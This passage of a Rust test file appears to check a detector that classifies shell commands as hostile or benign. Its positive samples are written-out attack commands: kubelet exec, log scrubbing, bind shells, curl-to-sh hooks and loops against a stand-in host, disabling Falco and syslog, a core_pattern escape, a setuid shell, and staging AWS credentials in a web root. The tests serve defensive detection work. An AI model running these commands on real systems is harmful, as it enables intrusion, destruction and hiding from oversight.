    none_does(&["curl -ks https://10.0.0.4:10250/runningpods/"], &[KubeletCommand]);
    none_does(
        &[
            "cat > /etc/systemd/system/a.service <<E\n[Service]\nExecStart=/home/app/.pyenv/shims/python /srv/a.py\nE",
        ],
        &[UnitStrange],
    );
    none_does(&["printf '%s.example.com\\n' $NAMES | while read h; do host \"$h\"; done"], &[SendsDns]);
    all_do(
        &[
            "websocat -k wss://10.0.0.4:10250/exec/default/a/a?command=id",
            "curl -k https://10.0.0.4:10250/run/a/b/c -d cmd=id",
        ],
        &[KubeletCommand],
    );
    all_do(
        &["for s in $(systemctl list-units | awk '{print $1}'); do systemctl stop \"$s\"; done"],
        &[StopsMany],
    );
    all_do(&["cd /\nsudo rm -rf etc/shadow"], &[LocksOut]);
    all_do(&["mv / /dev/null", "mv /home/* /dev/null"], &[DeletesBroadly]);
    all_do(
        &[
            "cat > /etc/systemd/system/.m.service <<E\n[Service]\nExecStart=/opt/m\nE",
            "cat > /etc/systemd/system/m.service <<E\n[Service]\nExecStart=~/.cache/.m/p.sh\nE",
        ],
        &[UnitStrange],
    );
}

#[test]
fn lines_that_are_taken_out_of_a_log_are_known() {
    all_do(
        &[
            "sed -i '/203\\.0\\.113\\.9/d' /var/log/auth.log",
            "f=/var/log/nginx/access.log; sed -i -e \"/$ip/d\" $f",
            "grep -v svc-sync /var/log/auth.log > /tmp/a && cat /tmp/a > /var/log/auth.log",
            "awk '!/10\\.0\\.0\\.9/' /var/log/secure > /run/a; mv /run/a /var/log/secure",
            "utmpdump /var/log/wtmp | sed '/x/d' | utmpdump -r > /var/log/wtmp",
            "psql -c \"delete from audit.events where actor = 'x'\"",
        ],
        &[LogLines],
    );
    none_does(
        &[
            "sed -i 's/a/b/' /var/log/app.conf",
            "grep -v debug /var/log/syslog | wc -l",
            "cat /var/log/syslog > /var/log/syslog.1",
            ": > /var/log/wtmp",
            "psql -c \"delete from audit_log where created_at < now() - interval '90 days'\"",
            "psql -c \"DELETE FROM audit_log WHERE user_id = 7\"",
            "grep -v healthz /var/log/nginx/access.log > /var/log/nginx/real.log",
            "awk '!/DEBUG/' /var/log/app.log > /var/log/app.clean.log",
            "sed -i '1,5000d' /var/log/app.log",
            "sed -i '/^$/d' /var/log/app.log",
            "cat /backup/wtmp > /var/log/wtmp",
            "sed -i s/a/b/ /var/log/x/d",
        ],
        &[LogLines],
    );
}

#[test]
fn what_is_told_where_to_connect_to_is_known() {
    all_do(
        &[
            "/usr/lib/gconv/update -r 198.51.100.14",
            "/opt/a/agent -c 198.51.100.3:443 &",
            "nohup /var/x/y 203.0.113.45 53",
        ],
        &[RunsToAddress],
    );
    none_does(
        &[
            "/sbin/iptables -A INPUT -s 198.51.100.3 -j DROP",
            "/opt/app/run 10.0.0.1",
            "/usr/bin/ping 198.51.100.3",
        ],
        &[RunsToAddress],
    );
}

#[test]
fn a_server_that_answers_with_a_shell_is_known() {
    all_do(
        &[
            "cat > /etc/xinetd.d/x <<E\nservice x\n{\n  socket_type = stream\n  server = /bin/bash\n  server_args = -i\n}\nE",
            "printf '[Service]\\nExecStart=-/bin/bash -l\\nStandardInput=socket\\n' > /lib/systemd/system/x@.service",
            "echo '9930 stream tcp nowait root /bin/bash bash -i' >> /etc/inetd.conf",
        ],
        &[BindShell],
    );
    none_does(
        &[
            "printf '[Service]\\nExecStart=/usr/sbin/sshd -i\\nStandardInput=socket\\n' > /lib/systemd/system/ssh@.service",
            "printf 'service rsync\\n{\\nserver = /usr/bin/rsync\\n}\\n' > /etc/xinetd.d/rsync",
            "printf '[Service]\\nExecStart=/bin/sh -c x\\n' > /lib/systemd/system/x.service",
            "printf '[Service]\\nExecStart=/bin/bash /usr/local/bin/health.sh\\nStandardInput=socket\\n' > /etc/systemd/system/h@.service",
            "printf 'service h\\n{\\nserver = /bin/bash\\nserver_args = /opt/check.sh\\n}\\n' > /etc/xinetd.d/h",
            "echo 'check stream tcp nowait root /usr/sbin/tcpd /bin/sh /opt/check.sh' >> /etc/inetd.conf",
        ],
        &[BindShell],
    );
}

#[test]
fn commands_in_settings_are_followed() {
    all_do(
        &[
            "echo 'install loop /tmp/.x; /sbin/modprobe loop' > /etc/modprobe.d/x.conf",
            "printf '[D-BUS Service]\\nExec=/dev/shm/agent\\n' > /usr/share/dbus-1/system-services/x.service",
            "sed -i '2i curl http://h.example/x | sh' /var/lib/dpkg/info/tzdata.postinst",
        ],
        &[HookAdded, ProfileStrange],
    );
    none_does(
        &[
            "echo 'options kvm nested=1' > /etc/modprobe.d/kvm.conf",
            "echo 'install usb-storage /bin/true' > /etc/modprobe.d/usb.conf",
            "printf '/var/log/app.log {\\n  postrotate\\n systemctl reload app\\n endscript\\n}\\n' > /etc/logrotate.d/app",
        ],
        &[ProfileStrange],
    );
    all_do(
        &[
            "echo 'kernel.core_pattern=|/usr/lib/.cd/dump %p' > /etc/sysctl.d/50-c.conf",
            "sysctl -w kernel.core_pattern='|/tmp/x'",
        ],
        &[EscapeCgroup],
    );
    none_does(
        &[
            "echo 'kernel.core_pattern=|/usr/lib/systemd/systemd-coredump %P' > /etc/sysctl.d/50-coredump.conf",
        ],
        &[EscapeCgroup],
    );
    none_does(&["printf 'install -d /var/run/app\\n' > /etc/init.d/app"], &[ProfileStrange]);
    none_does(&["sed -i 's#/tmp/app.sock#/run/app.sock#' /etc/systemd/system/app.service"], &[UnitStrange]);
    all_do(&["echo /opt/.lib > /etc/ld.so.conf.d/00.conf"], &[PreloadAdded]);
    none_does(
        &[
            "echo /usr/local/cuda/lib64 > /etc/ld.so.conf.d/cuda.conf",
            "echo /root/.mujoco/mujoco210/bin > /etc/ld.so.conf.d/mujoco.conf",
        ],
        &[PreloadAdded],
    );
}

#[test]
fn who_is_watched_by_nobody_any_more_is_known() {
    all_do(
        &[
            "kubectl -n falco patch ds falco -p '{\"spec\":{\"template\":{\"spec\":{\"nodeSelector\":{\"no\":\"1\"}}}}}'",
            "kubectl get ds -A | grep -iE 'falco|tetragon' | while read ns n; do kubectl -n $ns delete ds $n; done",
            "M=$(lsmod | awk '/^(falco|tmhook)/{print $1}'); for m in $M; do rmmod -f $m; done",
        ],
        &[DefenceStopped],
    );
    all_do(
        &[
            "iptables -A OUTPUT -p udp --dport 514 -j DROP",
            "iptables -I OUTPUT -d siem.corp.example -j REJECT",
        ],
        &[LoggingStopped],
    );
    none_does(
        &[
            "iptables -A OUTPUT -p tcp --dport 514 -j REJECT",
            "iptables -A OUTPUT -p tcp -m multiport --dports 512,513,514 -j DROP",
            "iptables -A INPUT -p udp --dport 514 -j DROP",
            "iptables -A OUTPUT -p tcp --dport 25 -j DROP",
        ],
        &[LoggingStopped],
    );
    all_do(
        &[
            "ps() { command ps \"$@\" | command grep -v sysupd; }",
            "ss() { /bin/ss \"$@\" | grep -v ':8443 '; }",
        ],
        &[ProcessHidden],
    );
    none_does(
        &[
            "cat > /etc/hosts <<E\n127.0.0.1 localhost\n10.0.0.5 syslog.corp.example\n10.0.0.6 plc1.siemens.example\nE",
            "echo '127.0.0.1 temp-sensor.lab' >> /etc/hosts",
        ],
        &[HostsForged],
    );
    all_do(&["echo '127.0.0.1 siem.corp.example' >> /etc/hosts"], &[HostsForged]);
    none_does(
        &[
            "kubectl delete validatingwebhookconfiguration ingress-nginx-admission",
            "kubectl drain node-falco-1",
            "kubectl patch ds falco -n falco -p '{\"metadata\":{\"labels\":{\"a\":\"b\"}}}'",
        ],
        &[DefenceStopped],
    );
    none_does(
        &[
            "ls() { command ls \"$@\" | grep -v '^total'; }",
            "ps() { command ps aux | grep -v grep; }",
            "ps() { command ps \"$@\" | less; }",
            "mine() { ps | grep -v root; }",
        ],
        &[ProcessHidden],
    );
}

#[test]
fn files_of_commands_that_come_again_and_again_are_known() {
    all_do(
        &[
            "while true; do aws s3 cp s3://b/cmd /dev/shm/.c && . /dev/shm/.c; sleep 9; done",
            "while :; do curl -so /tmp/j http://h.example/j; sh /tmp/j; sleep 60; done",
        ],
        &[CommandLoop],
    );
    none_does(
        &[
            "curl -so /opt/app http://h.example/app; while true; do /opt/app; sleep 1; done",
            "while true; do curl -fsSLo i.sh http://h.example/i && bash i.sh && break; sleep 10; done",
        ],
        &[CommandLoop],
    );
    all_do(&["install -m 6755 -o root /bin/bash /usr/bin/bashh"], &[SetuidShell]);
    none_does(&["install -m 4755 build/ping /usr/bin/ping"], &[SetuidShell]);
    all_do(&["tar czf /tmp/x ~/.aws; cp /tmp/x /var/www/html/favicon.ico"], &[SendsToWeb]);
}
